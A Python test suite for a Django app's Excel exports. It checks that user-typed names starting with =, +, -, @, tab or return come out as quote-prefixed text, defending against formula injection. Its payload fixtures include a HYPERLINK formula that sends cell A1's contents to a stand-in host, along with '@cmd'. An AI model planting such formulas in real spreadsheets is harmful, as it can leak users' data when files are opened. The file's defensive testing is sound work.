"""Formula injection (CWE-1236): a name someone typed that starts with = + - @, a tab or a
carriage return is written to every Excel file as text that Excel will not evaluate — a string
cell marked "quote prefix" (what Excel itself stores for a value typed after an apostrophe), the
text kept as typed. Every export goes through `core.xlsx`; none touches openpyxl itself."""

import ast
import io
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from tocds.conftest import World
from tocds.core.xlsx import build_workbook, export_workbook
from tocds.people.models import Organisation, OrganisationKind
from tocds.reports.tests.helpers import report_a, some_visits
from tocds.schools.tests.factories import school_world
from tocds.teams.models import Membership
from tocds.training.tests.factories import enrol, make_course, make_session

pytestmark = pytest.mark.django_db

# One payload per dangerous first character; each would run, link or be re-read as a formula.
PAYLOADS = {
    "=": '=HYPERLINK("http://x.example/?"&A1,"Xem")',
    "+": "+1+1",
    "-": "-2+3",
    "@": "@SUM(1,1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell


def formula_risks(content: bytes) -> list[str]:
    """Every cell Excel would evaluate, or would turn into a formula when someone edits it."""
    risks = []
    for title, cell in cells(content):
        if cell.data_type == "f":
            risks.append(f"{title}!{cell.coordinate} is a formula: {cell.value!r}")
        elif (
            isinstance(cell.value, str)
            and cell.value.startswith(DANGEROUS)
            and not cell.quotePrefix
        ):
            risks.append(f"{title}!{cell.coordinate} is not quote-prefixed: {cell.value!r}")
    return risks


def texts(content: bytes) -> set[str]:
    return {cell.value for _title, cell in cells(content) if isinstance(cell.value, str)}


def hostile_world(world: World, payload: str) -> dict[str, str]:
    """The names of the world's places, teams, people, schools and training rewritten to start
    with the payload, and some visits and a report in commune A; returns what each is called."""
    names = {
        "commune": f"{payload} xã",
        "hamlet": f"{payload} thôn",
        "team": f"{payload} tổ",
        "member": f"{payload} Nguyễn Văn A",
        "enterprise": f"{payload} doanh nghiệp",
        "school": f"{payload} trường",
        "course": f"{payload} lớp học",
        "session": f"{payload} buổi 1",
        "comment": f"{payload} nhận xét",
    }
    some_visits(world)  # the visits use codes, not names
    world.commune_a.name = names["commune"]
    world.commune_a.save()
    world.hamlet_a1.name = names["hamlet"]
    world.hamlet_a1.save()
    world.team_a.name = names["team"]
    world.team_a.save()
    person = world.member_a.person
    person.full_name = names["member"]
    person.save()
    world.enterprise.name = names["enterprise"]
    world.enterprise.save()
    sw = school_world(world)
    sw.school_a.name = names["school"]
    sw.school_a.save()
    course = make_course(world.commune_a, names["course"])
    session = make_session(
        course, title=names["session"], starts_at=timezone.now() - timedelta(days=1)
    )
    enrol(session, person, attended=True, rating=4, comment=names["comment"])
    # Names are stored cleaned (a leading tab or return dropped): expect what was stored.
    stored = {
        "commune": world.commune_a.name,
        "hamlet": world.hamlet_a1.name,
        "team": world.team_a.name,
        "member": person.full_name,
        "enterprise": world.enterprise.name,
        "school": sw.school_a.name,
    }
    names.update(stored)
    names["course_id"] = str(course.pk)
    names["session_id"] = str(session.pk)
    names["report_id"] = str(report_a(world).pk)
    return names


def exports(names: dict[str, str]) -> list[tuple[str, str, set[str]]]:
    """(persona, URL, the hostile names the file must show as text) for every Excel download."""
    return [
        ("officer_a", "/teams/export.xlsx", {names[k] for k in ("member", "team", "hamlet")}),
        ("officer_a", "/teams/import/template.xlsx", {names["team"], names["enterprise"]}),
        ("province_admin", "/places/coverage.xlsx", {names["commune"]}),
        ("officer_a", "/places/hamlets/template.xlsx", {names["commune"]}),
        (
            "officer_a",
            f"/training/courses/{names['course_id']}/results.xlsx",
            {names[k] for k in ("course", "session", "member", "comment")},
        ),
        ("officer_a", f"/training/sessions/{names['session_id']}/import/template.xlsx", set()),
        ("province_admin", "/training/figures/results.xlsx", {names["member"]}),
        ("officer_a", f"/reports/{names['report_id']}/report.xlsx", {names["team"]}),
        (
            "province_admin",
            f"/reports/campaigns/{names['campaign_id']}/province.xlsx",
            {names["commune"]},
        ),
        ("province_admin", "/schools/figures.xlsx", {names["school"]}),
    ]


@pytest.mark.parametrize("prefix", list(PAYLOADS))
def test_every_export_writes_a_hostile_name_as_text(world: World, prefix: str):
    names = hostile_world(world, PAYLOADS[prefix])
    names["campaign_id"] = str(world.campaign_all.pk)
    problems = []
    for persona, url, expected in exports(names):
        response = world.client_for(persona).get(url)
        assert response.status_code == 200, url
        problems += [f"{url}: {risk}" for risk in formula_risks(response.content)]
        missing = expected - texts(response.content)
        problems += [f"{url}: {name!r} not shown as typed" for name in sorted(missing)]
    assert problems == []


def test_a_member_imported_with_a_formula_for_a_name_is_exported_as_text(world: World):
    book = Workbook()
    book.active.append(["Mã tổ", "Họ và tên", "Số điện thoại"])
    book.active.append([world.team_a.pk, "=1+1", "0912000111"])
    book.active.append([world.team_a.pk, "@cmd", ""])
    book.active["B2"].data_type = "s"  # typed after an apostrophe: text, not a formula
    buffer = io.BytesIO()
    book.save(buffer)
    client = world.client_for("officer_a")
    response = client.post(
        "/teams/import/", {"file": SimpleUploadedFile("m.xlsx", buffer.getvalue())}
    )
    assert response.status_code == 302, [str(e) for e in response.context["result"].errors]
    assert Membership.objects.filter(person__full_name__in=["=1+1", "@cmd"]).count() == 2
    content = client.get("/teams/export.xlsx").content
    assert formula_risks(content) == []
    assert {"=1+1", "@cmd"} <= texts(content)


def test_the_writer_keeps_numbers_and_harmless_text_as_they_are():
    rows = [[-5, 3.5, "-5", "Nguyễn Văn A", "a=b", "", None]]
    for book in (
        build_workbook("t", [], rows),
        export_workbook("t", ["a", "b", "c", "d", "e", "f", "g"], rows),
    ):
        buffer = io.BytesIO()
        book.save(buffer)
        sheet = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
        row = [sheet.cell(row=2, column=n) for n in range(1, 6)]
        assert [c.value for c in row] == [-5, 3.5, "-5", "Nguyễn Văn A", "a=b"]
        assert [c.data_type for c in row] == ["n", "n", "s", "s", "s"]
        assert [c.quotePrefix for c in row] == [False, False, True, False, False]


def test_control_characters_in_typed_text_do_not_break_an_export(world: World):
    """openpyxl refuses control characters in a cell: a comment that holds one is still
    exported (the character dropped) instead of ending in a server error."""
    session = make_session(make_course(world.commune_a, "Lớp A"))
    enrol(session, world.member_a.person, attended=True, rating=5, comment="Tốt\x07 lắm\x1b")
    url = f"/training/courses/{session.course_id}/results.xlsx"
    response = world.client_for("officer_a").get(url)
    assert response.status_code == 200
    assert "Tốt lắm" in texts(response.content)
    book = build_workbook("t", [], [["a\x00b\x0bc"]])
    buffer = io.BytesIO()
    book.save(buffer)
    assert "abc" in texts(buffer.getvalue())


SRC = Path(__file__).resolve().parents[2]
READERS_AND_WRITER = {"core/xlsx.py", "core/sheets.py"}


def test_no_module_but_core_xlsx_uses_openpyxl():
    """A new export cannot forget the rule: only the writer (`core/xlsx.py`) and the upload
    readers (`core/sheets.py`) may import openpyxl or csv."""
    offenders = []
    for path in sorted(SRC.rglob("*.py")):
        relative = path.relative_to(SRC).as_posix()
        if "/tests/" in relative or relative in READERS_AND_WRITER:
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            modules = []
            if isinstance(node, ast.Import):
                modules = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom):
                modules = [node.module or ""]
            if any(m.split(".")[0] in ("openpyxl", "xlsxwriter", "csv") for m in modules):
                offenders.append(f"{relative}:{node.lineno}")
    assert offenders == []


def test_an_organisation_named_like_a_formula_is_text_in_the_template(world: World):
    Organisation.objects.create(name="=2*3", kind=OrganisationKind.ENTERPRISE, place=world.province)
    content = world.client_for("officer_a").get("/teams/import/template.xlsx").content
    assert formula_risks(content) == []
    assert "=2*3" in texts(content)
